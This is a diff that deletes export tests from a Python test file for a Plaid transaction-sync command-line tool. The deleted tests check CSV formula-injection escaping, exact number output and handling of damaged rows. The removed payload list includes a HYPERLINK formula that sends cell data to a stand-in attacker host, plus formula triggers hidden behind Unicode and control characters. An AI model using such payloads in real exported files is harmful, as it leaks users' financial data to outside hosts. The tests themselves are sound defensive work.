@@ -2,18 +2,12 @@
 
 from __future__ import annotations
 
-import io
-import zlib
 from datetime import UTC, datetime, timedelta
 from decimal import Decimal
 from typing import Any
 
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
-from plaid_sync.domain import exact_json
 from plaid_sync_cli.bulk import RateLimiter, parse_rate
-from plaid_sync_cli.commands.export import COLUMNS, as_text, csv_cells, write
 from plaid_sync_cli.item_report import (
     ItemReport,
     account_table,
@@ -146,90 +140,3 @@ def test_a_history_entry_is_a_row() -> None:
         "needs_user",
         "active -> needs_user; ITEM_LOGIN_REQUIRED; Plaid's request_id qk5B; 3 added; 12 ms; published ItemNeedsUser",
     )
-
-
-def test_cells_are_exact() -> None:
-    cells = csv_cells({"item_id": "a", "amount": Decimal("1E+3"), "pending": False, "name": "x"})
-    assert (cells[0], cells[5], cells[8], cells[10], cells[-1]) == ("a", "1000", "x", "false", "")
-
-
-FORMULAS = [
-    '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
-    *("+1", "-2+3", "@SUM(A1)", "\u22121", "\tx", "\rx", "\nx", "  =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\x00=1"),
-    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "'=1", "''@a"),
-]
-
-
-@pytest.mark.parametrize("text", FORMULAS)
-def test_no_text_is_a_formula_and_none_is_lost(text: str) -> None:
-    shown = as_text(text)
-    assert shown == f"'{text}"
-    every = dict.fromkeys(COLUMNS, text)
-    assert csv_cells(every) == [shown] * len(COLUMNS)
-
-
-@pytest.mark.parametrize("text", ["", "Coffee", "a=b", "1-2", "'quoted'", "2026-01-01", "a\t=1"])
-def test_other_texts_stay_as_they_are(text: str) -> None:
-    assert as_text(text) == text
-
-
-@given(st.text())
-def test_an_apostrophe_is_added_only_in_front_of_a_formula(text: str) -> None:
-    shown = as_text(text)
-    assert shown in {text, f"'{text}"}
-    assert as_text(shown) != shown or shown == text  # without one apostrophe it is the text again
-
-
-@pytest.mark.parametrize("number", ["-12.34", "1E+3", "0.1234567", "-0.5", f"-1{'0' * 37}"])
-def test_a_number_of_any_sign_stays_an_exact_number(number: str) -> None:
-    assert Decimal(csv_cells({"amount": Decimal(number)})[5]) == Decimal(number)
-
-
-def test_each_cell_is_quoted_so_that_no_other_separator_splits_it() -> None:
-    stream = io.StringIO()
-    write([{"item_id": "i", "transaction_id": "t", "name": "a;=1"}], stream, "csv", lambda _: None)
-    assert ',"a;=1",' in stream.getvalue()
-
-
-GOOD: dict[str, Any] = {
-    "item_id": "i",
-    "transaction_id": "t",
-    "account_id": "a",
-    "date": "2026-01-01",
-    "amount": Decimal("-1.50"),
-    "pending": False,
-    "plaid": zlib.compress(b'{"amount":-1.50}'),
-}
-
-
-@pytest.mark.parametrize(
-    "damage",
-    [
-        {"plaid": "text"},
-        {"plaid": b"no zlib"},
-        {"plaid": zlib.compress(b"[]")},
-        {"plaid": None},
-        {"amount": "1"},
-        {"amount": None},
-        {"date": {1}},
-        {"name": b"bytes"},
-    ],
-    ids=str,
-)
-@pytest.mark.parametrize("file_format", ["jsonl", "csv"])
-def test_a_damaged_row_is_exported_as_far_as_it_is_readable_and_named(damage: dict[str, Any], file_format: str) -> None:
-    rows = [GOOD, {**GOOD, "transaction_id": "u"} | damage, {**GOOD, "transaction_id": "v"}]
-    stream = io.StringIO()
-    assert write(rows, stream, file_format, lambda _: None) == (3, ["u"])
-    lines = stream.getvalue().splitlines()[-3:]
-    if file_format == "jsonl":
-        shown = [exact_json.loads(line) for line in lines]
-        assert [line["transaction_id"] for line in shown] == ["t", "u", "v"]
-        assert [line.get("error") for line in shown] == [None, "unreadable_row", None]
-        assert shown[0]["plaid"] == {name: GOOD[name] for name in GOOD if name not in {"item_id", "plaid"}}
-        assert str(shown[0]["plaid"]["amount"]) == "-1.50"
-
-
-def test_a_tombstone_without_content_is_not_damaged() -> None:
-    row = {"item_id": "i", "transaction_id": "t", "removed_at": "2026-01-01T00:00:00.000Z"}
-    assert write([row], io.StringIO(), "jsonl", lambda _: None) == (1, [])
